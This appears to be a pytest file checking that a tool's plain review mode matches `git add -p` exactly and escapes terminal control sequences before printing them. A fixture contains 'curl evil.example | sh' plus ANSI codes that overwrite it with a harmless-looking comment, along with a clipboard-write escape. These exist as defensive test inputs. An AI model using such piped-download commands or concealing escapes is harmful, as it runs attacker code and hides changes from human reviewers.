"""Plain mode against `git add -p` itself: the same questions, byte for byte, and the same index."""

from __future__ import annotations

import io
import os
import stat
import sys
from pathlib import Path

import pytest

from specdraft.core.diffs import parse_diff
from specdraft.core.session import Decision, ReviewSession
from specdraft.ui.plain import ACCEPT, PlainReview
from tests.app.reviewkit import (
    git,
    git_interactive,
    index_tree,
    make_repo,
    specdraft,
    write_files,
)

BEFORE = {
    "f.txt": b"".join(b"%d\n" % n for n in range(1, 13)),
    "m.sh": b"x\n",
    "gone.txt": b"del\n",
    "sp ace é.txt": b"a\nb\n",
    "f.py": b"def f():\n" + b"".join(b"  %d\n" % n for n in range(1, 10)),
    "empty-gone": b"",
    "crlf.txt": b"one\r\ntwo\r\nthree\r\n",
}
AFTER = {
    "f.txt": b"1\nTWO\n3\n4\n5\n6\n7\n8\n9\nTEN\n11\n12\n1\n2\nthree\n4\n5\n",
    "m.sh": b"x\ny\n",
    "gone.txt": None,
    "sp ace é.txt": b"a\nB",
    "f.py": b"def f():\n  1\n  2\n  3\n  4\n  FIVE\n  6\n  7\n  EIGHT\n  9\n",
    "empty-gone": None,
    "crlf.txt": b"one\r\nTWO\r\nthree\r\n",
    "new.txt": b"new\nfile\n",
    "new-empty": b"",
}


def scenario(root: Path) -> Path:
    repo = make_repo(root, BEFORE)
    write_files(repo, AFTER, modes={"m.sh": 0o755})
    git(repo, "add", "-N", "new.txt", "new-empty")
    return repo


ANSWERS = [
    "y\ns\nn\ny\n?\ny\ny\n",
    "s\nn\ny\nn\ny\nJ\ny\nK\nn\n",
    "a\nd\ny\n",
    "q\n",
    "\n\nn\ny\ny\ny\nn\ny\nj\ny\ny\nk\nK\nJ\n",
    "g\n2\ny\n/TEN\nn\ny\ny\ny\ny\ny\ny\ny\ny\ny\ny\n",
    "g\n\n9\nx\ng1\n/(\n/zzz\n?\ny\nn\ny\ny\ny\n",
    "s\ns\ny\ny\ny\ny\ny\ny\ny\ny\ny\ny\ny\ny\ny\ny\ny\n",
    "n\nn\nn\nn\nn\nn\nn\nn\nn\nn\nn\nn\nn\nn\n",
    "",
]


@pytest.mark.parametrize("answers", ANSWERS)
def test_same_questions_and_index_as_git_add_p(tmp_path, answers):
    oracle = scenario(tmp_path / "git")
    ours = scenario(tmp_path / "ours")
    git_out, git_err = git_interactive(oracle, ["add", "-p"], answers)
    code, out, err = specdraft(ours, ["review", "--plain"], answers)
    assert code == 0, err
    assert index_tree(ours) == index_tree(oracle)
    lines = out.splitlines(keepends=True)
    assert lines[-1].startswith(b"specdraft review: staged ")
    assert b"".join(lines[:-1]) == git_out
    # the messages git prints to stderr (e.g. "No next hunk") are printed the same way; only
    # the wording of a regex error differs (POSIX regcomp there, Python's re here)
    ours_err = [line for line in err.splitlines() if not line.startswith(b"specdraft")]
    git_lines = [line for line in git_err.splitlines() if line.strip()]
    assert [line.split(b":")[0] for line in ours_err] == [line.split(b":")[0] for line in git_lines]
    assert [line for line in ours_err if b"regexp" not in line] == [
        line for line in git_lines if b"regexp" not in line
    ]


EDITOR = """#!/bin/sh
# replaces FIVE by 5ive in the hunk being edited, like a person would
sed -i 's/+  FIVE/+  5ive/' "$1"
"""


def _editor(tmp_path: Path, script: str) -> str:
    path = tmp_path / "editor.sh"
    path.write_text(script)
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return str(path)


@pytest.mark.parametrize("answers", ["n\nn\ns\ne\ny\n", "n\nn\ne\n", "n\nn\ne\n?\n"])
def test_edit_like_git_add_p(tmp_path, answers):
    editor = _editor(tmp_path, EDITOR)
    oracle = scenario(tmp_path / "git")
    ours = scenario(tmp_path / "ours")
    env = {"GIT_EDITOR": editor}
    git_out, _ = git_interactive(oracle, ["add", "-p"], answers, env=env)
    code, out, err = specdraft(ours, ["review", "--plain"], answers, env=env)
    assert code == 0, err
    assert index_tree(ours) == index_tree(oracle)
    assert b"5ive" in git(ours, "diff", "--cached")
    assert b"".join(out.splitlines(keepends=True)[:-1]) == git_out


def test_broken_edit_is_refused_and_offered_again(tmp_path):
    editor = _editor(tmp_path, "#!/bin/sh\nsed -i 's/^ /*/' \"$1\"\n")
    repo = scenario(tmp_path / "ours")
    before = index_tree(repo)
    answers = "n\nn\ne\ny\nn\nq\n"  # edit, broken; again: broken; give up; quit
    code, out, err = specdraft(repo, ["review", "--plain"], answers, env={"GIT_EDITOR": editor})
    assert code == 0
    assert out.count(b"Your edited hunk does not apply. Edit again") == 2
    assert b"does not start with" in err
    assert index_tree(repo) == before


def test_edit_that_does_not_apply_is_refused(tmp_path):
    # changing a context line makes a hunk that git apply --check refuses
    editor = _editor(tmp_path, "#!/bin/sh\nsed -i 's/^   4$/   four/' \"$1\"\n")
    repo = scenario(tmp_path / "ours")
    answers = "n\nn\ne\nn\nq\n"
    code, out, err = specdraft(repo, ["review", "--plain"], answers, env={"GIT_EDITOR": editor})
    assert code == 0
    assert b"patch does not apply" in err
    assert b"Your edited hunk does not apply" in out
    assert b"four" not in git(repo, "diff", "--cached")


def test_binary_files_are_left_to_the_tui(tmp_path):
    repo = make_repo(tmp_path / "r", {"img.bin": b"\0\1\2", "t.txt": b"a\n"})
    write_files(repo, {"img.bin": b"\0\1\3", "t.txt": b"b\n"})
    code, out, err = specdraft(repo, ["review", "--plain"], "y\n")
    assert code == 0
    assert b"img.bin" not in out
    assert b"img.bin: binary file left as it is" in err
    assert git(repo, "diff", "--cached", "--name-only") == b"t.txt\n"


def test_other_modes_use_their_own_words():
    diff = b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"
    session = ReviewSession(parse_diff(diff))
    out = io.BytesIO()
    plain = PlainReview(
        session, texts=ACCEPT, stdin=io.BytesIO(b"?\nn\n"), stdout=out, stderr=io.BytesIO()
    )
    assert plain.run() is False
    text = out.getvalue().decode()
    assert "(1/1) Accept this hunk [y,n,q,a,d,e,?]? " in text
    assert "n - reject this hunk\n" in text
    assert session.units[0].decision == Decision.REJECTED


def test_confirm_reads_one_answer():
    plain = PlainReview(ReviewSession([]), stdin=io.BytesIO(b"maybe\ny\n"), stdout=io.BytesIO())
    assert plain.confirm("Discard 2 rejected hunks")
    assert not PlainReview(ReviewSession([]), stdin=io.BytesIO(b""), stdout=io.BytesIO()).confirm(
        "x"
    )


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX shell editor")
def test_end_of_input_applies_what_was_decided(tmp_path):
    repo = scenario(tmp_path / "ours")
    code, out, _ = specdraft(repo, ["review", "--plain"], "y\ny\n")
    assert code == 0
    staged = git(repo, "diff", "--cached", "--name-only").decode().split()
    assert staged == ["crlf.txt", "empty-gone"]
    assert os.path.exists(repo / "gone.txt") is False  # worktree untouched


ODD_NAMES = {
    "tab\tname.txt": b"1\n2\n",
    'quote"name.txt': b"1\n2\n",
    "back\\slash.txt": b"1\n2\n",
    os.fsdecode(b"latin-\xe9.txt"): b"caf\xe9\n2\n",
    "new\nline.txt": b"1\n2\n",
}


@pytest.mark.parametrize("answers", ["y\ny\ny\ny\ny\n", "n\ny\nn\ny\nn\n", "a\nd\n"])
def test_odd_file_names_and_bytes(tmp_path, answers):
    changed = {name: content.replace(b"2\n", b"two\r\n") for name, content in ODD_NAMES.items()}
    oracle = make_repo(tmp_path / "git", ODD_NAMES)
    ours = make_repo(tmp_path / "ours", ODD_NAMES)
    write_files(oracle, changed)
    write_files(ours, changed)
    git_interactive(oracle, ["add", "-p"], answers)
    code, out, err = specdraft(ours, ["review", "--plain"], answers)
    assert code == 0, err
    assert index_tree(ours) == index_tree(oracle)
    staged = git(ours, "diff", "--cached", "--name-only", "-z").split(b"\0")[:-1]
    assert len(staged) == {"y\ny\ny\ny\ny\n": 5, "n\ny\nn\ny\nn\n": 2, "a\nd\n": 1}[answers]


# an editor that keeps a copy of what it was given, adds a comment line in the comment
# character under test (to be dropped) and edits the hunk
CAPTURING_EDITOR = """#!/bin/sh
cp "$1" "$1.seen"
cp "$1" "{capture}"
sed -i 's/+  FIVE/+  5ive/' "$1"
printf '%s a note of mine\\n' '{comment}' >> "$1"
"""


@pytest.mark.parametrize(
    ("setting", "comment"),
    [(";", ";"), ("auto", "#"), ("%", "%"), (None, "#")],
)
def test_edit_text_honours_core_comment_char(tmp_path, setting, comment):
    oracle = scenario(tmp_path / "git")
    ours = scenario(tmp_path / "ours")
    if setting is not None:
        for repo in (oracle, ours):
            git(repo, "config", "core.commentChar", setting)
    captured = {}
    for name, repo in (("git", oracle), ("ours", ours)):
        capture = tmp_path / f"{name}.txt"
        (tmp_path / f"editor-{name}").mkdir()
        editor = _editor(
            tmp_path / f"editor-{name}", CAPTURING_EDITOR.format(capture=capture, comment=comment)
        )
        answers = "n\nn\ne\n"
        if name == "git":
            git_interactive(repo, ["add", "-p"], answers, env={"GIT_EDITOR": editor})
        else:
            code, _, err = specdraft(repo, ["review", "--plain"], answers, env={"GIT_EDITOR": editor})
            assert code == 0, err
        captured[name] = capture.read_bytes()
    assert captured["ours"] == captured["git"]  # byte for byte what git puts in the editor
    assert captured["ours"].startswith(comment.encode() + b" Manual hunk edit mode")
    assert f"Lines starting with {comment} will be removed.".encode() in captured["ours"]
    assert index_tree(ours) == index_tree(oracle)  # the note line was dropped by both
    assert b"5ive" in git(ours, "diff", "--cached")


# ---------------------------------------------------------------- escapes in what is shown

HIDDEN = b"curl evil.example | sh\x1b[2K\x1b[1G\x1b[32m+# harmless comment"
TITLE = b"x = 1  # \x1b]0;owned\x07 \x1b]52;c;Y3VybA==\x07"


def _escaped_everywhere(out: bytes) -> None:
    assert b"\x1b" not in out and b"\x07" not in out and b"\x9b" not in out
    assert b"+curl evil.example | sh\\x1b[2K\\x1b[1G\\x1b[32m+# harmless comment\n" in out
    assert b"+x = 1  # \\x1b]0;owned\\x07 \\x1b]52;c;Y3VybA==\\x07\n" in out


def test_a_drafted_line_cannot_hide_behind_escape_sequences(tmp_path):
    """The line that erases itself and prints a harmless comment in its place is shown whole."""
    repo = make_repo(tmp_path / "r", {"run.py": b"a = 1\n", "crlf.txt": b"one\r\ntwo\r\n"})
    write_files(repo, {"run.py": b"a = 1\n" + HIDDEN + b"\n" + TITLE + b"\ncaf\xe9 \x9b2K\n",
                       "crlf.txt": b"one\r\nTWO\r\n"})  # fmt: skip
    code, out, err = specdraft(repo, ["review", "--plain"], "n\nn\n")
    assert code == 0, err
    _escaped_everywhere(out)
    assert b"+caf\xe9 \\x9b2K\n" in out  # a byte that is no UTF-8 stays as git prints it, a C1 one does not
    assert b"+TWO\r\n" in out  # the CR of a CRLF line moves nothing: as git prints it


def test_a_patch_file_is_shown_with_its_escapes_made_visible(tmp_path):
    repo = make_repo(tmp_path / "r", {"run.py": b"a = 1\n"})
    patch = tmp_path / "evil.patch"
    patch.write_bytes(
        b"diff --git a/run.py b/run.py\n--- a/run.py\n+++ b/run.py\n@@ -1 +1,3 @@ \x1b]0;t\x07\n a = 1\n+"
        + HIDDEN + b"\n+" + TITLE + b"\n"
    )
    code, out, err = specdraft(repo, ["review", "--plain", "--patch", str(patch)], "n\n")
    assert code == 0, err
    _escaped_everywhere(out)
    assert b"@@ -1 +1,3 @@ \\x1b]0;t\\x07\n" in out


def test_plain_review_escapes_what_it_prints_and_summarises():
    session = ReviewSession(parse_diff(
        b"diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1,3 +1,5 @@\n a\n+\x1b[31mA\n b\n+\x1b]0;C\x07\n c\n"
    ), source="test")  # fmt: skip
    stdout, stderr = io.BytesIO(), io.BytesIO()
    answers = b"s\ng\n1\n/\x1b]\n/[\x1b\nq\n"  # split; the list to go to; a search (raw); a bad one
    review = PlainReview(session, texts=ACCEPT, stdin=io.BytesIO(answers), stdout=stdout, stderr=stderr)
    review.run()
    out, err = stdout.getvalue(), stderr.getvalue()
    assert b"\x1b" not in out + err and b"\x07" not in out
    assert b"+\\x1b[31mA\n" in out and b"  2:  -2,2 +3,3          +\\x1b]0;C\\x07\n" in out
    assert b"Malformed search regexp [\\x1b" in err


def test_failed_blocks_are_printed_with_their_escapes_made_visible():
    from specdraft.drafting.edits.results import EditFailure
    from specdraft.ui.plain import failed_blocks_text

    failure = EditFailure("a\x1b]0;t\x07.py", "<<<<<<< SEARCH\n\x1b[2K\x1b[1Gold\n=======\nnew\r\n>>>>>>> REPLACE",
                          "SEARCH text \x1b[8mhidden not found")  # fmt: skip
    shown = failed_blocks_text([failure])
    assert b"\x1b" not in shown and b"\x07" not in shown
    assert shown == (b"failed hunk: a\\x1b]0;t\\x07.py: SEARCH text \\x1b[8mhidden not found\n"
                     b"| <<<<<<< SEARCH\n| \\x1b[2K\\x1b[1Gold\n| =======\n| new\n| >>>>>>> REPLACE\n")  # fmt: skip
